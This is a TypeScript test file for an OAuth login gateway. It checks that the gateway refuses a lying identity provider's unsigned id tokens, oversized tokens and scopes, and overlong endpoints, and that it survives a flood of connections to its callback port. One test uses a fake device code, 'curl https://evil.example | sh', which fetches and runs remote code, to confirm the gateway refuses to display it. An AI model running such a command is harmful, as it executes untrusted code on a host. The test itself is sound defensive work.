import assert from 'node:assert/strict'
import { once } from 'node:events'
import type { ServerResponse } from 'node:http'
import { type Socket, connect } from 'node:net'
import type { Login } from '../../shared/api/api.ts'
import { visit } from '../support/desktop/browser.ts'
import { idTokenOf } from '../support/providers/custom-provider.ts'
import { type OAuthApp, startOAuthApp } from '../support/providers/oauth-app.ts'
import { sendJson, startScriptedProvider } from '../support/providers/scripted-provider.ts'
import { filesIn } from '../support/temporary.ts'

/*
 * A provider that someone was talked into logging in to: what it sends is kept and shown, so it has to be
 * of the size that it has at honest ones.
 */
describe('a provider that lies', () => {
  let provider: Awaited<ReturnType<typeof startScriptedProvider>>
  let app: OAuthApp
  let metadata: object
  let tokens: object
  let device: object
  let idToken: ((claims: object) => string) | undefined
  let claims: object

  before(async () => {
    provider = await startScriptedProvider((origin) => ({
      '/.well-known/openid-configuration': (response) =>
        sendJson(response, 200, {
          issuer: origin,
          authorization_endpoint: `${origin}/authorize`,
          token_endpoint: `${origin}/token`,
          device_authorization_endpoint: `${origin}/device`,
          id_token_signing_alg_values_supported: ['none', 'HS256', 'RS256', 'ES256'],
          ...metadata,
        }),
      '/token': (response: ServerResponse) =>
        sendJson(response, 200, {
          access_token: 'access-1',
          token_type: 'Bearer',
          ...tokens,
          ...(idToken && { id_token: idToken(claims) }),
        }),
      '/device': (response) =>
        sendJson(response, 200, {
          device_code: 'the-device-code',
          user_code: 'WDJB-MJHT',
          verification_uri: `${origin}/enter`,
          ...device,
        }),
    }))
  })
  beforeEach(async () => {
    metadata = tokens = device = {}
    idToken = undefined
    app = await startOAuthApp({
      gateway: {
        providers: { mine: { issuer: provider.origin, client_id: 'me', scopes: ['openid'] } },
      },
    })
  })
  afterEach(() => app.close())
  after(() => provider.close())

  const logIn = async (): Promise<Login> => {
    const { loginId, authorizationUrl, redirectUri } = await app.start({ provider: 'mine' })
    const { searchParams } = new URL(authorizationUrl)
    claims = { iss: provider.origin, aud: 'me', sub: 'ada', nonce: searchParams.get('nonce') }
    await visit(`${redirectUri}?code=the-code&state=${searchParams.get('state')}`)
    return app.ended(loginId)
  }
  const isRefused = async (message: RegExp): Promise<void> => {
    const { status, error } = await logIn()
    assert.deepEqual([status, error?.code], ['failed', 'provider-refused'])
    assert.match(error?.message ?? '', message)
    assert.deepEqual(await filesIn(app.home.tokens), [])
  }
  const scopes = (count: number) =>
    Array.from({ length: count }, (_, at) => `scope:${at}`).join(' ')

  for (const algorithm of ['none', 'HS256', 'HS512'])
    it(`names no account by an id token of the algorithm ${algorithm}, which its metadata list`, async () => {
      metadata = { id_token_signing_alg_values_supported: [algorithm, 'RS256'] }
      idToken = (named) => idTokenOf(named, algorithm)
      await isRefused(new RegExp(`algorithm of the id token is "${algorithm}"`))
    })

  for (const algorithm of ['RS256', 'ES256'])
    it(`names one by an id token of the algorithm ${algorithm}`, async () => {
      idToken = (named) => idTokenOf(named, algorithm)
      const { status, account } = await logIn()
      assert.deepEqual([status, account?.id], ['authorized', 'ada'])
    })

  for (const [what, answer, message] of [
    [
      'an access token of 17 kB',
      { access_token: 'x'.repeat(16_385) },
      /a token of more than 16 kB/,
    ],
    ['a refresh token of 1 MB', { refresh_token: 'x'.repeat(1e6) }, /a token of more than 16 kB/],
    ['201 scopes', { scope: scopes(201) }, /more than 200 scopes/],
    ['a scope of 1 MB', { scope: 'x'.repeat(1e6) }, /a scope of more than 2,048 characters/],
  ] as const)
    it(`stores no login with ${what}`, async () => {
      tokens = answer
      await isRefused(message)
    })

  it('is believed with large tokens and many scopes', async () => {
    const large = 'x'.repeat(16_384)
    tokens = { access_token: large, refresh_token: large, scope: scopes(200), expires_in: 3600 }
    assert.equal((await logIn()).status, 'authorized')
  })

  for (const name of ['authorization_endpoint', 'token_endpoint', 'device_authorization_endpoint'])
    it(`sends no one to a ${name} of 2,100 characters`, async () => {
      metadata = { [name]: `${provider.origin}/${'x'.repeat(2100)}` }
      const { body } = await app.send('POST', '/oauth/start', { provider: 'mine' })
      assert.equal(body.code, 'provider-misconfigured')
      assert.match(body.detail ?? '', new RegExp(`${name} that is not an https address of at most`))
    })

  it('shows no sentence as the code of a device login', async () => {
    const start = async () => app.send('POST', '/oauth/start', { provider: 'mine', device: true })
    assert.equal((await start()).status, 201)
    device = { user_code: 'run: curl https://evil.example | sh' }
    const { body } = await start()
    assert.equal(body.code, 'provider-refused')
    assert.doesNotMatch(JSON.stringify(body), /curl/)
  })
})

describe('a callback port at which another user opens 400 connections', () => {
  it('still answers a browser that connected before them', async () => {
    const provider = await startScriptedProvider(() => ({}))
    const { origin } = provider
    const endpoints = { authorization_endpoint: `${origin}/a`, token_endpoint: `${origin}/t` }
    const app = await startOAuthApp({
      gateway: { providers: { mine: { ...endpoints, client_id: 'me' } } },
    })
    const sockets: Socket[] = []
    try {
      const { redirectUri } = await app.start({ provider: 'mine' })
      const { host, port } = new URL(redirectUri)
      const open = async (): Promise<Socket> => {
        const socket = connect(Number(port), '127.0.0.1')
        sockets.push(socket.on('error', () => undefined))
        await once(socket, 'connect')
        return socket
      }
      const browser = await open()
      await Promise.all(Array.from({ length: 400 }, open))
      // Connections are accepted in their order: these have been.
      assert.equal((await visit(redirectUri)).status, 400)
      browser.write(`GET /callback?code=x&state=forged HTTP/1.1\r\nHost: ${host}\r\n\r\n`)
      const [answer] = (await once(browser, 'data')) as [Buffer]
      assert.match(answer.toString(), /^HTTP\/1\.1 400 /)
    } finally {
      for (const socket of sockets) socket.destroy()
      await app.close()
      provider.close()
    }
  })
})
